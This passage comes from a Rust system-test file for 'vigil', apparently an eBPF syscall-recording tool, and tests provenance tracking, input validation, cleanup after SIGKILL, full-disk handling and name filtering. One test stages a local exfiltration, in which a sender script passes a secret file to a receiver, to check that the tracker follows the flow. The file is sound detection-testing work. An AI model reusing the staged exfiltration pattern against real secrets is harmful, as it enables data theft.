    let cg = Cgroup::new("exfil");
    let (secret, received) = (dir.join("secret"), dir.join("received"));
    std::fs::write(&secret, "the secret\n").unwrap();
    for (name, src) in [("receive.py", RECEIVE), ("send.py", SEND)] {
        std::fs::write(dir.join(name), src).unwrap();
    }
    let port = dir.join("port");
    let log = dir.join("exfil.vlog");
    let rec = Recording::start(&log, &[os("--cgroup"), cg.arg()]);
    let mut receiver = spawn(&mut cg.command(
        python(),
        [dir.join("receive.py"), port.clone(), received.clone()],
    ));
    wait_for_file(&port);
    let mut sender = spawn(&mut cg.command(python(), [dir.join("send.py"), port, secret.clone()]));
    let sender_pid = sender.id();
    let receiver_pid = receiver.id();
    assert!(wait_bounded(&mut sender, Duration::from_secs(15), "the sender").success());
    assert!(wait_bounded(&mut receiver, Duration::from_secs(15), "the receiver").success());
    assert_eq!(std::fs::read_to_string(&received).unwrap(), "the secret\n");
    stop_ok(rec);

    let g = track(&log, &received);
    assert!(has_pid(&g, receiver_pid), "the receiver: {g}");
    assert!(
        has_pid(&g, sender_pid),
        "the sender, across the connection: {g}"
    );
    assert!(has_path(&g, &secret), "the secret: {g}");
}

// ---------------------------------------------------------------------------------------
// 5. Bad input.

#[test]
fn bad_input_is_refused_with_one_clear_message_and_no_log() {
    require_system();
    let dir = scratch_dir("sys-bad").canonicalize().unwrap();
    let log = dir.join("bad.vlog");
    let vigil_bin = env!("CARGO_BIN_EXE_vigil");
    let cases: Vec<(Vec<&str>, &str)> = vec![
        (
            vec!["--pid", "999999999"],
            "--pid 999999999: no such process",
        ),
        (
            vec!["--cgroup", "does/not/exist"],
            "--cgroup does/not/exist:",
        ),
        (
            vec!["--comm", "averyveryverylongname"],
            "at most 15 bytes of a process's name",
        ),
        (vec!["--comm", "ba*"], "patterns are not supported"),
        (vec!["--buffer", "3000"], "a power of two"),
        (
            vec!["--duration", "xyz"],
            "--duration xyz: expected a duration",
        ),
    ];
    for (args, says) in cases {
        let mut cmd = vigil();
        cmd.args(["record", "--system", "-o"]).arg(&log).args(&args);
        // A safety net for the cases that are not about the duration.
        if args[0] != "--duration" {
            cmd.args(["--duration", "3s"]);
        }
        let out = run_bounded(&mut cmd, Duration::from_secs(20));
        let err = text(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{args:?}: {err}");
        assert!(err.contains(says), "{args:?}: {err}");
        assert_eq!(
            err.trim().lines().count(),
            1,
            "{args:?}: one message: {err}"
        );
        assert_eq!(
            std::fs::read_dir(&dir).unwrap().count(),
            0,
            "{args:?} left a file"
        );
    }
    // Not root: the message names the capabilities missing.
    let out = run_bounded(
        Command::new("setpriv")
            .args([
                "--reuid=65534",
                "--regid=65534",
                "--clear-groups",
                vigil_bin,
            ])
            .args(["record", "--system", "--duration", "3s", "-o"])
            .arg(&log),
        Duration::from_secs(20),
    );
    let err = text(&out.stderr);
    assert!(!out.status.success(), "{err}");
    assert!(
        err.contains("needs root") && err.contains("CAP_BPF"),
        "{err}"
    );
    assert_eq!(std::fs::read_dir(&dir).unwrap().count(), 0, "left a file");
    // A command with --system: one or the other.
    let out = run_bounded(
        vigil()
            .args(["record", "--system", "-o"])
            .arg(&log)
            .args(["--", "true"]),
        Duration::from_secs(20),
    );
    assert_eq!(out.status.code(), Some(2), "{}", text(&out.stderr));
    assert!(
        text(&out.stderr).contains("cannot be used with"),
        "{}",
        text(&out.stderr)
    );
    assert_eq!(std::fs::read_dir(&dir).unwrap().count(), 0, "left a file");
}

// ---------------------------------------------------------------------------------------
// 6. vigil killed with SIGKILL.

/// The BPF programs that an open fd of `pid` holds (a program's fd, or a link's).
fn prog_ids(pid: u32) -> HashSet<u32> {
    let mut ids = HashSet::new();
    for fd in std::fs::read_dir(format!("/proc/{pid}/fdinfo"))
        .unwrap()
        .flatten()
    {
        let info = std::fs::read_to_string(fd.path()).unwrap_or_default();
        for l in info.lines() {
            if let Some(v) = l.strip_prefix("prog_id:") {
                ids.insert(v.trim().parse().unwrap());
            }
        }
    }
    ids
}

const BPF_PROG_GET_FD_BY_ID: libc::c_long = 13;
const BPF_OBJ_GET_INFO_BY_FD: libc::c_long = 15;

/// The name of BPF program `id` while the kernel has it loaded (whoever holds it, or nobody:
/// a program attached with no fd left is what a leak looks like), `None` once it is freed.
/// The bpf(2) calls bpftool makes, without needing bpftool.
fn loaded_prog(id: u32) -> Option<String> {
    // union bpf_attr for BPF_PROG_GET_FD_BY_ID: prog_id, next_id, open_flags.
    let attr = [id, 0, 0];
    // SAFETY: bpf(2) reads `size` bytes of attr, which lives through the call.
    let fd = unsafe {
        libc::syscall(
            libc::SYS_bpf,
            BPF_PROG_GET_FD_BY_ID,
            attr.as_ptr(),
            std::mem::size_of_val(&attr),
        )
    };
    if fd < 0 {
        let e = std::io::Error::last_os_error();
        assert_eq!(
            e.raw_os_error(),
            Some(libc::ENOENT),
            "bpf(PROG_GET_FD_BY_ID {id}): {e}"
        );
        return None;
    }
    // struct bpf_prog_info, its name at offset 64 (16 bytes); the rest left zero.
    let mut info = [0u8; 256];
    // union bpf_attr for BPF_OBJ_GET_INFO_BY_FD: bpf_fd, info_len, info (a pointer).
    let mut get = [0u64; 2];
    get[0] = fd as u64 | ((info.len() as u64) << 32);
    get[1] = info.as_mut_ptr() as u64;
    // SAFETY: the kernel writes at most info_len bytes to `info`, which outlives the call;
    // the fd is ours and closed once.
    let r = unsafe {
        let r = libc::syscall(
            libc::SYS_bpf,
            BPF_OBJ_GET_INFO_BY_FD,
            get.as_mut_ptr(),
            std::mem::size_of_val(&get),
        );
        libc::close(fd as i32);
        r
    };
    assert_eq!(
        r,
        0,
        "bpf(OBJ_GET_INFO_BY_FD): {}",
        std::io::Error::last_os_error()
    );
    let name = &info[64..80];
    let len = name.iter().position(|&b| b == 0).unwrap_or(16);
    Some(String::from_utf8_lossy(&name[..len]).into_owned())
}

#[test]
fn sigkill_of_vigil_leaves_no_program_behind_and_the_recorded_process_runs_on() {
    let dir = scratch_dir("sys-kill").canonicalize().unwrap();
    let cg = Cgroup::new("kill");
    let log = dir.join("killed.vlog");
    let mut rec = Recording::start(&log, &[os("--cgroup"), cg.arg()]);
    let ids = prog_ids(rec.pid);
    let names: HashSet<String> = ids.iter().filter_map(|&id| loaded_prog(id)).collect();
    for n in ["sys_enter", "sys_exit", "connect4", "bind6"] {
        assert!(names.contains(n), "vigil's {n} is loaded: {names:?}");
    }
    // A process being recorded: a shell loop that goes on well after vigil is killed.
    let mut busy = cg
        .command(
            "sh",
            [
                "-c",
                "i=0; while [ $i -lt 60 ]; do i=$((i+1)); cat /dev/null; sleep 0.05; done; echo finished $i",
            ],
        )
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    std::thread::sleep(Duration::from_millis(300));
    let mut child = rec.child.take().unwrap();
    child.kill().unwrap();
    child.wait().unwrap();
    // The kernel detaches and frees everything vigil held, within a few seconds.
    let deadline = Instant::now() + Duration::from_secs(5);
    loop {
        let left: Vec<(u32, String)> = ids
            .iter()
            .filter_map(|&id| Some((id, loaded_prog(id)?)))
            .collect();
        if left.is_empty() {
            break;
        }
        assert!(
            Instant::now() < deadline,
            "still loaded after vigil was killed: {left:?}"
        );
        std::thread::sleep(Duration::from_millis(50));
    }
    assert!(
        busy.try_wait().unwrap().is_none(),
        "the recorded process still runs"
    );
    let st = wait_bounded(&mut busy, Duration::from_secs(20), "the recorded loop");
    let mut said = String::new();
    std::io::Read::read_to_string(&mut busy.stdout.take().unwrap(), &mut said).unwrap();
    assert!(st.success(), "{st}");
    assert_eq!(said, "finished 60\n");
}

// ---------------------------------------------------------------------------------------
// 7. A disk that fills.

/// A small tmpfs mounted for one test, unmounted when dropped.
struct Tmpfs(PathBuf);

impl Tmpfs {
    fn mount(at: &Path, size: &str) -> Tmpfs {
        std::fs::create_dir_all(at).unwrap();
        let out = run(Command::new("mount")
            .args([
                "-t",
                "tmpfs",
                "-o",
                &format!("size={size}"),
                "vigil-systest",
            ])
            .arg(at));
        if !out.status.success() {
            panic!(
                "PRIVILEGE MISSING: cannot mount a tmpfs on {}: {}",
                at.display(),
                text(&out.stderr)
            );
        }
        Tmpfs(at.to_path_buf())
    }
}

impl Drop for Tmpfs {
    fn drop(&mut self) {
        let _ = Command::new("umount").arg("-l").arg(&self.0).status();
    }
}

#[test]
fn a_full_disk_stops_the_recording_cleanly_with_a_readable_log() {
    let dir = scratch_dir("sys-full").canonicalize().unwrap();
    let cg = Cgroup::new("full");
    let small = Tmpfs::mount(&dir.join("small"), "256k");
    let log = small.0.join("full.vlog");
    let rec = Recording::start(
        &log,
        &[os("--syscalls"), os("close"), os("--cgroup"), cg.arg()],
    );
    let mut storm = spawn(&mut cg.command(program("ebpf_storm"), ["1000000"]));
    let (st, err) = rec.wait(Duration::from_secs(30));
    assert!(
        !st.success(),
        "vigil fails when its log cannot be written: {err}"
    );
    assert!(
        err.contains("the log is incomplete") && err.contains("No space left on device"),
        "{err}"
    );
    assert!(
        !err.contains("panicked"),
        "a clean stop, not a crash: {err}"
    );
    let st = wait_bounded(&mut storm, Duration::from_secs(30), "the storm");
    assert!(st.success(), "the recorded process is not hurt: {st}");
    // The log reads up to where it stops.
    let out = run(vigil().arg("show").arg(&log));
    assert!(
        matches!(out.status.code(), Some(0 | 3)),
        "{}: {}",
        out.status,
        text(&out.stderr)
    );
    let shown = text(&out.stdout);
    assert!(
        shown.lines().filter(|l| l.contains("close(-1")).count() > 1000,
        "the events written before the disk filled: {} lines",
        shown.lines().count()
    );
    drop(small);
}

/// `--comm NAME`: the kernel side records the processes of that name, and not others running
/// the same program under another name, nor their parents. The storm is copied under a name
/// of this test's own (the kernel's comm is the executable's file name, 15 bytes at most).
#[test]
fn the_comm_filter_selects_processes_by_name_in_the_kernel() {
    let dir = scratch_dir("sys-comm").canonicalize().unwrap();
    let name = format!("vgc{}", std::process::id() % 1_000_000);
    let named = dir.join(&name);
    std::fs::copy(program("ebpf_storm"), &named).unwrap();
    let other = dir.join("vg_other_name");
    std::fs::copy(program("ebpf_storm"), &other).unwrap();
    let log = dir.join("comm.vlog");
    let rec = Recording::start(
        &log,
        &[os("--syscalls"), os("close"), os("--comm"), os(&name)],
    );
    for prog in [&named, &other] {
        let out = run_bounded(Command::new(prog).arg("100"), Duration::from_secs(20));
        assert!(out.status.success(), "{}", text(&out.stderr));
    }
    stop_ok(rec);
    let events = read_log(&log);
    let pid = pid_of_exec(&events, &named);
    assert_eq!(
        storm_closes(&events, pid),
        200,
        "the named process's 100 closes, entries and exits"
    );
    let others: Vec<&Event> = events
        .iter()
        .filter(|e| e.pid != pid && e.pid != 0 && is_call(e, Sysno::close))
        .collect();
    assert!(
        others.is_empty(),
        "no close of any other process (the other name, the test itself): {:?}",
        others.first()
    );
}
